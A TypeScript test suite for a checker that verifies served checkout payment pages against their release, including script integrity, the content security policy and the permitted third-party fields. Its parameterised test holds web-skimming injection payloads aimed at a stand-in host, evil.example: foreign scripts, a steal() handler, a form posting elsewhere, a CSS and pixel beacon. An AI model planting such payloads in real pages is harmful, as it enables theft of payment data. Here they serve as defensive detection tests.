import { describe, expect, it } from 'vitest';
import { CheckoutAssets, readBuilt, readInventory } from '../pages/assets.ts';
import { notFoundPage } from '../pages/end-pages.ts';
import { hostedFields } from '../pages/hosted-fields.ts';
import { documentOf } from '../pages/layout.ts';
import { english } from '../pages/texts/languages.ts';
import { Words } from '../pages/words.ts';
import { checkPage, type ServedPage } from './page-check.ts';
import { contentSecurityPolicy, pageHeaders } from './policy.ts';

const assets = new CheckoutAssets();
const scene = {
  words: new Words(english),
  assets,
  shop: '',
  branding: null,
  logoPath: null,
  isTest: true,
  path: '/checkout/pay/x',
  requestId: 'req_1',
};
const text = documentOf(scene, notFoundPage(scene));
const inventory = readInventory();
const [style] = inventory.styles;
const expected = { inventory, style: readBuilt(style?.file ?? '') };

const served = (changes: { text?: string; headers?: Record<string, string> } = {}): ServedPage => ({
  url: 'https://pay.example/checkout/pay/x',
  headers: new Headers({ ...pageHeaders(), ...changes.headers }),
  text: changes.text ?? text,
});

const fromServer = async (url: string) => {
  const asset = assets.find(new URL(url).pathname, '');
  if (asset === undefined) throw new Error(`${url} is not there`);
  return asset.body;
};
const findings = async (page: ServedPage, fetch = fromServer) =>
  (await checkPage(page, expected, fetch)).findings;

describe('a served page', () => {
  it('as it left the server matches the release', async () => {
    expect(await checkPage(served(), expected, fromServer)).toEqual({ scripts: 1, styles: 1, findings: [] });
  });

  it('with a bank’s frame, or with the processor’s fields, matches as well', async () => {
    const frame = { 'content-security-policy': contentSecurityPolicy({ frame: 'https://acs.bank.example' }) };
    expect(await findings(served({ headers: frame }))).toEqual([]);
    const [{ script: address, origins } = { script: '', origins: [] }] = hostedFields;
    const theirs = `<script src="${address}" defer></script>\n<script`;
    const fields = { 'content-security-policy': contentSecurityPolicy({ fieldsFrom: origins }) };
    expect(await findings(served({ headers: fields, text: text.replace('<script', theirs) }))).toEqual([]);
    expect(await findings(served({ text: text.replace('<script', theirs) }))).toHaveLength(1);
  });

  it.each([
    ['a script from elsewhere', '<script src="https://evil.example/x.js" defer></script>'],
    ['a script inside', '<script>steal()</script>'],
    ['a SCRIPT with attributes', '<SCRIPT async src=//evil.example></SCRIPT>'],
    ['an event handler', '<p onclick="steal()">x</p>'],
    ['a frame', '<iframe src="https://evil.example"></iframe>'],
    ['a base', '<base href="https://evil.example">'],
    ['a form that goes elsewhere', '<form method="post" action="https://evil.example"></form>'],
    ['an address that runs', '<a href="javascript:steal()">x</a>'],
    ['styles', '<style>input{background:url(//evil.example)}</style>'],
    ['a picture of somebody else', '<img src="https://evil.example/pixel">'],
    ['another style sheet', '<link rel="stylesheet" href="https://evil.example/x.css" integrity="sha384-x">'],
    ['a policy of its own', '<meta http-equiv="Content-Security-Policy" content="">'],
  ])('with %s does not', async (_name, addition) => {
    expect(
      (await findings(served({ text: text.replace('</main>', `${addition}</main>`) }))).length,
    ).toBeGreaterThan(0);
  });

  it('whose script or style sheet was changed on the server does not', async () => {
    const changed = async (url: string) => Buffer.concat([await fromServer(url), Buffer.from('\n/* x */')]);
    const found = await findings(served(), changed);
    expect(
      found.some((finding) => /another content for \/checkout\/assets\/checkout-\w+\.js/.test(finding)),
    ).toBe(true);
    expect(
      found.some((finding) => /another content for \/checkout\/assets\/checkout-\w+-\w+\.css/.test(finding)),
    ).toBe(true);
  });

  it('without its script, or with another integrity, does not', async () => {
    expect(await findings(served({ text: text.replace(/<script.*?<\/script>/s, '') }))).toHaveLength(1);
    expect(
      await findings(served({ text: text.replace(/(<script[^>]* integrity="sha384-)./, '$1!') })),
    ).toHaveLength(1);
  });

  it('with a weaker policy or a missing header does not', async () => {
    const weaker = {
      'content-security-policy': contentSecurityPolicy().replace("'self'", "'self' 'unsafe-inline'"),
    };
    expect(await findings(served({ headers: weaker }))).toHaveLength(1);
    expect(await findings(served({ headers: { 'x-frame-options': '' } }))).toHaveLength(1);
  });
});

describe('the inventory', () => {
  it('names the processor’s script with what it is for', () => {
    expect(inventory.third_party.map(({ src }) => src)).toEqual(['https://www.paypal.com/web-sdk/v6/core']);
  });
});
